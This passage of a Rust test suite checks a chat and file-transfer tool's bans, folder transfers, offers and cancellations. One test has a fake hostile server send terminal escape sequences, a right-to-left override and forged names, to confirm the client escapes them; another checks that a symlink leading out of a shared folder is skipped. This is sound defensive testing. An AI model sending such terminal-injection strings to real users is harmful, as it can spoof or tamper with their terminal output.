        .unwrap()
        .ends_with("] server → ann: psst"));
}

#[test]
fn a_ban_keeps_the_name_and_its_look_alikes_out_until_it_ends() {
    let (mut server, chat, addr) = console_with("ben");
    server.type_line("/ban ben soon flooding");
    let v = server.expect_event("error");
    assert!(
        v["message"].as_str().unwrap().contains("not a duration"),
        "{v}"
    );
    let banned_at = std::time::Instant::now();
    server.type_line("/ban ben 2s flooding");
    let v = server.expect_event("banned");
    assert_eq!((&v["name"], &v["seconds"]), (&"ben".into(), &2.0.into()));
    let v = chat.expect_event("closed");
    assert_eq!(
        (&v["code"], &v["reason"]),
        (&"kicked".into(), &"flooding".into())
    );
    assert_eq!(chat.wait().code(), Some(9));
    // Refused while the ban lasts, in every spelling of the name; then welcome again.
    let mut refusals = 0;
    loop {
        let name = ["ben", "BEN", "\u{ff42}en"][refusals % 3];
        let o = run(&["say", "--name", name, "--server", &addr, "back"]);
        if o.status.success() {
            break;
        }
        assert_eq!(o.status.code(), Some(4), "{}", stderr(&o));
        assert!(stderr(&o).contains("banned for another"), "{}", stderr(&o));
        assert!(
            banned_at.elapsed() < Duration::from_secs(30),
            "the ban never ended"
        );
        refusals += 1;
        // Pacing, not synchronisation: the end of a ban has no event to wait for, and a
        // process per attempt at full speed would only load the machine.
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(banned_at.elapsed() >= Duration::from_secs(2));
    assert!(refusals >= 3, "{refusals}");
    // A ban can be lifted early.
    server.type_line("/ban carl 1d");
    server.expect_event("banned");
    let o = run(&["say", "--name", "carl", "--server", &addr, "hi"]);
    assert_eq!(o.status.code(), Some(4), "{}", stderr(&o));
    server.type_line("/unban CARL");
    server.expect_event("unbanned");
    let o = run(&["say", "--name", "carl", "--server", &addr, "hi"]);
    assert!(o.status.success(), "{}", stderr(&o));
    server.type_line("/unban carl");
    let v = server.expect_event("error");
    assert!(v["message"].as_str().unwrap().contains("not banned"), "{v}");
}

#[test]
fn a_hostile_server_cannot_write_to_the_terminal_either() {
    use tidings_core::wire::{Message, Welcome, DEFAULT_MAX_FRAME};
    use tidings_core::ErrorCode;

    // A fake server: welcome with hostile names, a text, then goodbye with a hostile reason.
    let (addr, fake) = fake_server(vec![
        Message::Welcome(Welcome {
            name: "rick".into(),
            server: "\x1b]0;pwned\x07srv".into(),
            heartbeat_ms: 10_000,
            timeout_ms: 30_000,
            max_frame: DEFAULT_MAX_FRAME,
            capabilities: 0,
            online: vec!["rick".into(), FORGED.into()],
        }),
        Message::Text {
            peer: "\u{202e}eve".into(),
            private: true,
            text: GARISH.into(),
        },
        Message::Goodbye {
            code: ErrorCode::Kicked,
            reason: FORGED.into(),
        },
    ]);
    let dir = tempfile::tempdir().unwrap();
    let recv = Proc::spawn(&args(
        "recv",
        "rick",
        &addr,
        &["--out", dir.path().to_str().unwrap()],
    ));
    // Exit 9 with the goodbye's reason on standard error, on one line.
    recv.ends_harmless(
        Vec::new(),
        9,
        "recv from a hostile server",
        &[
            "\\u{1b}]0;pwned\\u{7}srv",
            "\\u{202e}eve (private): \\u{1b}]0;pwned",
            "tidings: error: the connection closed (kicked): hi\\u{1b}[2K\\u{d}[20:17:00]",
        ],
    );
    fake.join().unwrap();
}

/// Every file and folder below `root`, as (relative path, contents; `None` for a folder),
/// sorted.
fn tree(root: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    fn walk(root: &Path, at: &Path, out: &mut Vec<(String, Option<Vec<u8>>)>) {
        for entry in std::fs::read_dir(at).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                out.push((rel, None));
                walk(root, &path, out);
            } else if meta.is_file() {
                out.push((rel, Some(std::fs::read(&path).unwrap())));
            }
        }
    }
    let mut out = Vec::new();
    walk(root, root, &mut out);
    out.sort();
    out
}

#[test]
#[cfg(unix)] // plants a symbolic link
fn a_folder_and_a_file_to_two_recipients_are_rebuilt_byte_identical() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    let top = src.join("Fotos été");
    std::fs::create_dir_all(top.join("a/b/leer")).unwrap();
    std::fs::create_dir_all(top.join("empty")).unwrap();
    std::fs::create_dir_all(top.join("日本")).unwrap();
    make_file(&top.join("a/b/big.bin"), 5 << 20, 1);
    make_file(&top.join("a/small.txt"), 1000, 1);
    make_file(&top.join("日本/語.txt"), 70_000, 1);
    std::fs::write(top.join(".hidden"), b"hidden files are renamed, not lost").unwrap();
    // A link out of the folder is skipped, never followed.
    let outside = dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("secret"), b"not for bob").unwrap();
    std::os::unix::fs::symlink(&outside, top.join("link")).unwrap();
    let loose = src.join("loose.txt");
    std::fs::write(&loose, b"one more").unwrap();
    // Five files and two empty folders.
    let count = "7";
    let recvs: Vec<(Proc, std::path::PathBuf)> = ["bob", "carol"]
        .iter()
        .map(|name| {
            let out = dir.path().join(format!("to-{name}"));
            let args = ["--out", out.to_str().unwrap(), "--count", count];
            let p = as_json("recv", name, &addr, &args);
            p.expect_event("connected");
            (p, out)
        })
        .collect();
    let (top_arg, loose_arg) = (top.to_str().unwrap(), loose.to_str().unwrap());
    let args = ["--to", "bob", "--to", "carol", top_arg, loose_arg];
    let send = as_json("send", "alice", &addr, &args);
    // The sender hears which number each receiver sees, and waits for each to accept.
    let mut relayed = std::collections::BTreeSet::new();
    let mut sent = 0;
    let mut skipped = Vec::new();
    while sent < 14 {
        let v = send.expect(|v| {
            ["relayed", "waiting", "sent", "skipped", "failed"]
                .contains(&v["event"].as_str().unwrap())
        });
        match v["event"].as_str().unwrap() {
            "relayed" => {
                relayed.insert((
                    v["peer"].as_str().unwrap().to_string(),
                    v["relay_id"].as_u64().unwrap(),
                ));
            }
            "sent" => {
                // Its events carry the number the receiver knows.
                assert!(
                    relayed.iter().any(|(_, n)| Some(*n) == v["id"].as_u64()),
                    "{v}"
                );
                sent += 1;
            }
            "skipped" => skipped.push(v["path"].as_str().unwrap().to_string()),
            "failed" => panic!("{v}"),
            _ => {}
        }
    }
    assert_eq!(relayed.len(), 14, "{relayed:?}");
    assert!(
        skipped.len() == 1 && skipped[0].ends_with("link"),
        "{skipped:?}"
    );
    assert!(send.wait().success());
    let mut expected = tree(&src);
    expected.retain(|(p, _)| p != "Fotos été/link");
    for (p, _) in expected.iter_mut() {
        *p = p.replace(".hidden", "_hidden");
    }
    for (recv, out) in recvs {
        let name = recv_name(&out);
        let mut offered = std::collections::BTreeSet::new();
        for _ in 0..7 {
            let v = recv.expect_event("offer");
            offered.insert((name.clone(), v["id"].as_u64().unwrap()));
        }
        // The same numbers on both sides.
        let told: std::collections::BTreeSet<_> = relayed
            .iter()
            .filter(|(p, _)| *p == name)
            .cloned()
            .collect();
        assert_eq!(offered, told);
        assert!(recv.wait().success());
        assert_eq!(tree(&out), expected, "{name}");
    }
    assert!(!dir.path().join("to-bob/Fotos été/link").exists());
}

/// `tidings send --name alice --to TO --server ADDR PATH`, run to its end.
fn alice_sends(addr: &str, to: &str, path: &Path) -> Output {
    let path = path.to_str().unwrap();
    run(&args("send", "alice", addr, &["--to", to, path]))
}

/// The arguments `COMMAND --name NAME --server ADDR REST…`.
fn args<'a>(command: &'a str, name: &'a str, addr: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec![command, "--name", name, "--server", addr];
    args.extend_from_slice(rest);
    args
}

/// The arguments `--json COMMAND --name NAME --server ADDR REST…`.
fn json_args<'a>(command: &'a str, name: &'a str, addr: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
    [&["--json"][..], &args(command, name, addr, rest)].concat()
}

/// `tidings --json COMMAND --name NAME --server ADDR REST…`.
fn as_json(command: &str, name: &str, addr: &str, rest: &[&str]) -> Proc {
    Proc::spawn(&json_args(command, name, addr, rest))
}

#[cfg(unix)]
fn recv_name(out: &Path) -> String {
    out.file_name()
        .unwrap()
        .to_string_lossy()
        .trim_start_matches("to-")
        .to_string()
}

#[test]
#[cfg(unix)] // plants a symbolic link
fn an_empty_folder_named_like_a_partial_file_does_not_block_that_file() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("in");
    let args = ["--out", out.to_str().unwrap(), "--count", "2"];
    let recv = as_json("recv", "bob", &addr, &args);
    recv.expect_event("connected");
    // An empty folder named (through a link, which is followed) like the partial file of a
    // file sent after it.
    let empty = dir.path().join("src/report.pdf.part");
    std::fs::create_dir_all(&empty).unwrap();
    let link = dir.path().join("link");
    std::os::unix::fs::symlink(&empty, &link).unwrap();
    let o = alice_sends(&addr, "bob", &link);
    assert!(o.status.success(), "{}", stderr(&o));
    let report = dir.path().join("report.pdf");
    std::fs::write(&report, b"%PDF").unwrap();
    let o = alice_sends(&addr, "bob", &report);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(recv.wait().success());
    assert!(out.join("report.pdf.part").is_dir());
    assert_eq!(std::fs::read(out.join("report.pdf")).unwrap(), b"%PDF");
}

#[test]
fn an_offer_nobody_accepts_counts_down_and_fails_with_exit_6() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("later.txt");
    std::fs::write(&src, b"later").unwrap();
    let chat = as_json("chat", "bob", &addr, &[]);
    chat.expect_event("connected");
    let args = [
        "--to",
        "bob",
        "--accept-timeout",
        "2",
        src.to_str().unwrap(),
    ];
    let send = as_json("send", "alice", &addr, &args);
    let offer = chat.expect_event("offer");
    let waiting = send.expect_event("waiting");
    assert_eq!(waiting["peer"], "bob");
    assert_eq!(waiting["timeout_secs"], 2);
    // One number for both: the one bob would type to accept.
    assert_eq!(waiting["id"], offer["id"]);
    let started = std::time::Instant::now();
    let failed = send.expect_event("failed");
    assert_eq!(failed["code"], "transfer-timeout");
    assert_eq!(failed["id"], offer["id"]);
    let o = send.child_output();
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(o.status.code(), Some(6));
    let err = stderr(&o);
    assert!(
        err.contains("bob did not accept later.txt within 2s"),
        "{err}"
    );
    // Bob's offer went away with it.
    let gone = chat.expect_event("failed");
    assert_eq!(gone["id"], offer["id"]);
}

#[test]
fn a_receiver_keeping_fewer_levels_refuses_deeper_files() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("top");
    std::fs::create_dir_all(top.join("sub")).unwrap();
    std::fs::write(top.join("shallow.txt"), b"1").unwrap();
    std::fs::write(top.join("sub/deep.txt"), b"2").unwrap();
    let out = dir.path().join("in");
    let args = ["--out", out.to_str().unwrap(), "--max-depth", "2"];
    let recv = as_json("recv", "bob", &addr, &args);
    recv.expect_event("connected");
    let o = alice_sends(&addr, "bob", &top);
    assert_eq!(o.status.code(), Some(6));
    let err = stderr(&o);
    assert!(
        err.contains("1 of 2 transfers failed; first (bad-file-name): top/sub/deep.txt"),
        "{err}"
    );
    recv.expect_event("received");
    assert_eq!(std::fs::read(out.join("top/shallow.txt")).unwrap(), b"1");
    assert!(!out.join("top/sub").exists());
}

#[test]
fn chat_rebuilds_a_folder_in_its_download_folder() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("src/notes");
    std::fs::create_dir_all(top.join("2026/empty")).unwrap();
    std::fs::write(top.join("2026/jan.txt"), b"january").unwrap();
    let out = dir.path().join("chat-downloads");
    let args = ["--download-dir", out.to_str().unwrap(), "--accept-files"];
    let chat = as_json("chat", "bob", &addr, &args);
    chat.expect_event("connected");
    let o = alice_sends(&addr, "bob", &top);
    assert!(o.status.success(), "{}", stderr(&o));
    for _ in 0..2 {
        chat.expect_event("received");
    }
    assert_eq!(tree(&out), tree(&dir.path().join("src")));
}

#[test]
fn chat_accepts_every_waiting_offer_at_once() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("src/album");
    std::fs::create_dir_all(&top).unwrap();
    for i in 0..3 {
        std::fs::write(top.join(format!("{i}.txt")), format!("photo {i}")).unwrap();
    }
    let out = dir.path().join("chat-downloads");
    let mut chat = as_json(
        "chat",
        "bob",
        &addr,
        &["--download-dir", out.to_str().unwrap()],
    );
    chat.expect_event("connected");
    let send = as_json(
        "send",
        "alice",
        &addr,
        &["--to", "bob", top.to_str().unwrap()],
    );
    for _ in 0..3 {
        chat.expect_event("offer");
    }
    chat.type_line("/accept all");
    for _ in 0..3 {
        chat.expect_event("received");
    }
    assert!(send.wait().success());
    assert_eq!(tree(&out), tree(&dir.path().join("src")));
}

#[test]
fn chat_sends_a_folder_that_recv_rebuilds_byte_identical() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("src/album");
    std::fs::create_dir_all(top.join("empty")).unwrap();
    std::fs::create_dir_all(top.join("sub/deeper")).unwrap();
    // More files than the chat offers at once (8): the rest wait for earlier ones to end.
    for i in 0..12 {
        make_file(&top.join(format!("sub/f{i}.bin")), 1000 * i + 1, 1);
    }
    make_file(&top.join("sub/deeper/big.bin"), 3 << 20, 1);
    std::fs::write(top.join("é 日本.txt"), b"unicode names").unwrap();
    let entries = 15; // 14 files and one empty folder
    let out = dir.path().join("to-bob");
    let count = entries.to_string();
    let recv = as_json(
        "recv",
        "bob",
        &addr,
        &["--out", out.to_str().unwrap(), "--count", &count],
    );
    recv.expect_event("connected");
    let mut chat = as_json("chat", "alice", &addr, &[]);
    chat.expect_event("connected");
    sends_a_folder(&mut chat, "bob", &top, (14, 1), recv);
    assert_eq!(tree(&out), tree(&dir.path().join("src")));
}

/// Types `/send TO TOP` into `sender` (a chat, or the server's console) and waits until it
/// sent every one of `files` and empty `folders`; `recv` (with `--count` of all) must have
/// been offered each under the number the sender showed, and exit 0.
fn sends_a_folder(
    sender: &mut Proc,
    to: &str,
    top: &Path,
    (files, folders): (u64, u64),
    recv: Proc,
) {
    sender.type_line(&format!("/send {to} {}", top.display()));
    let entries = (files + folders) as usize;
    let mut sent = std::collections::BTreeSet::new();
    let mut offering = false;
    // In any order: the server's console prints its answers and the transfers' events apart.
    while sent.len() < entries || !offering {
        let kinds = ["offering", "sent", "failed", "error"];
        let v = sender.expect(|v| kinds.contains(&v["event"].as_str().unwrap()));
        if v["event"] == "offering" {
            let counts = (v["files"].as_u64(), v["folders"].as_u64());
            assert_eq!(counts, (Some(files), Some(folders)), "{v}");
            offering = true;
            continue;
        }
        assert_eq!(v["event"], "sent", "{v}");
        sent.insert(v["id"].as_u64().unwrap());
    }
    let mut offered = std::collections::BTreeSet::new();
    for _ in 0..entries {
        offered.insert(recv.expect_event("offer")["id"].as_u64().unwrap());
    }
    // Both sides name each transfer by the same number.
    assert_eq!(sent, offered);
    assert!(recv.wait().success());
}

#[test]
fn chat_shows_its_sends_under_the_number_the_receiver_sees() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("report.pdf");
    make_file(&file, 200_000, 1);
    let out = dir.path().join("in");
    let recv = as_json(
        "recv",
        "bob",
        &addr,
        &["--out", out.to_str().unwrap(), "--count", "2"],
    );
    recv.expect_event("connected");
    let mut chat = as_json("chat", "alice", &addr, &[]);
    chat.expect_event("connected");
    for _ in 0..2 {
        chat.type_line(&format!("/send bob {}", file.display()));
        let offer = recv.expect_event("offer");
        let id = &offer["id"];
        // The chat's own id is even and the receiver's odd: they never agree by chance.
        let relayed = chat.expect_event("relayed");
        assert_eq!(relayed["relay_id"], *id, "{relayed}");
        assert_ne!(relayed["id"], *id, "{relayed}");
        let started = chat.expect_event("started");
        assert_eq!(started["id"], *id, "{started}");
        let sent = chat.expect(|v| v["event"] == "sent" || v["event"] == "failed");
        assert_eq!(sent["event"], "sent", "{sent}");
        assert_eq!(sent["id"], *id, "{sent}");
        recv.expect_event("received");
    }
    assert!(recv.wait().success());
    assert_eq!(
        std::fs::read(out.join("report (1).pdf")).unwrap(),
        std::fs::read(&file).unwrap()
    );
}

#[test]
fn the_console_sends_a_folder_that_recv_rebuilds_byte_identical() {
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("src/handouts");
    std::fs::create_dir_all(top.join("week 1/empty")).unwrap();
    // More than the console offers at once (8).
    for i in 0..10 {
        make_file(&top.join(format!("week 1/sheet{i}.txt")), 500 * i + 3, 1);
    }
    make_file(&top.join("slides.bin"), 2 << 20, 1);
    let entries = 12; // 11 files and one empty folder
    let mut server = Proc::spawn(&["--json", "serve", "--listen", "127.0.0.1:0", "--console"]);
    let addr = server.expect_event("listening")["addr"]
        .as_str()
        .unwrap()
        .to_string();
    let out = dir.path().join("in");
    let count = entries.to_string();
    let args = ["--out", out.to_str().unwrap(), "--count", &count];
    let recv = as_json("recv", "ann", &addr, &args);
    recv.expect_event("connected");
    server.expect(|v| v["event"] == "joined" && v["name"] == "ann");
    sends_a_folder(&mut server, "ann", &top, (11, 1), recv);
    assert_eq!(tree(&out), tree(&dir.path().join("src")));
}

#[test]
fn chat_cancels_its_offer_by_the_number_the_receiver_sees() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("draft.txt");
    std::fs::write(&file, b"not yet").unwrap();
    let mut bob = as_json("chat", "bob", &addr, &[]);
    bob.expect_event("connected");
    let mut alice = as_json("chat", "alice", &addr, &[]);
    alice.expect_event("connected");
    // By the sender, then by the receiver: both by the number the receiver sees.
    for by_sender in [true, false] {
        alice.type_line(&format!("/send bob {}", file.display()));
        let offer = bob.expect_event("offer");
        alice.expect_event("relayed");
        let (canceller, other) = if by_sender {
            (&mut alice, &mut bob)
        } else {
            (&mut bob, &mut alice)
        };
        canceller.type_line(&format!("/cancel {}", offer["id"]));
        let v = canceller.expect(|v| v["event"] == "failed" || v["event"] == "error");
        assert_eq!(
            (&v["event"], &v["id"]),
            (&"failed".into(), &offer["id"]),
            "{v}"
        );
        assert_eq!(v["code"], "cancelled", "{v}");
        let v = other.expect_event("failed");
        assert_eq!(v["id"], offer["id"], "{v}");
    }
}

#[test]
fn a_folder_for_someone_not_online_is_not_offered_file_by_file() {
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().join("many");
    std::fs::create_dir(&top).unwrap();
    for i in 0..20 {
        std::fs::write(top.join(format!("{i}.txt")), b"x").unwrap();
    }
    let (mut server, mut chat, _) = console_with("alice");
    // The chat: the first eight go out and fail; the other twelve are not offered.
    chat.type_line(&format!("/send nobody {}", top.display()));
    let v = chat.expect(|v| v["event"] == "error");
    assert_eq!(
        (&v["peer"], &v["files"]),
        (&"nobody".into(), &12.into()),
        "{v}"
    );
    chat.type_line("/online");
    let mut failed = 0;
    loop {
        let v =
            chat.expect(|v| ["failed", "error", "peers"].contains(&v["event"].as_str().unwrap()));
        match v["event"].as_str().unwrap() {
            "failed" => {
                assert_eq!(v["code"], "unknown-peer", "{v}");
                failed += 1;
            }
            "peers" => break,
            _ => panic!("{v}"),
        }
    }
    assert!(failed <= 8, "{failed}");
    // The console: refused at once, and the rest dropped with it.
    server.type_line(&format!("/send nobody {}", top.display()));
    server.expect_event("offering");
    let v = server.expect_event("error");
    assert!(v["message"].as_str().unwrap().contains("nobody"), "{v}");
    let v = server.expect_event("error");
    assert_eq!(
        (&v["peer"], &v["files"]),
        (&"nobody".into(), &19.into()),
        "{v}"
    );
    server.type_line("/who");
    let v = server.expect(|v| v["event"] == "error" || v["event"] == "peers");
    assert_eq!(v["event"], "peers", "{v}");
}

#[test]
fn one_recipient_named_twice_gets_each_file_once() {
    let (_server, addr) = serve(&[]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("in");
    let recv = as_json("recv", "bob", &addr, &["--out", out.to_str().unwrap()]);
    recv.expect_event("connected");
    let file = dir.path().join("once.txt");
    std::fs::write(&file, b"once").unwrap();
    // `BOB` and `ｂob` are bob by the server's name key.
    let to = [
        "--to",
        "bob",
        "--to",
        "BOB",
        "--to",
        "ｂob",
        file.to_str().unwrap(),
    ];
    let o = run(&json_args("send", "alice", &addr, &to));
    assert!(o.status.success(), "{}", stderr(&o));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert_eq!(stdout.matches("\"event\":\"sent\"").count(), 1, "{stdout}");
    recv.expect_event("received");
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 1);
}
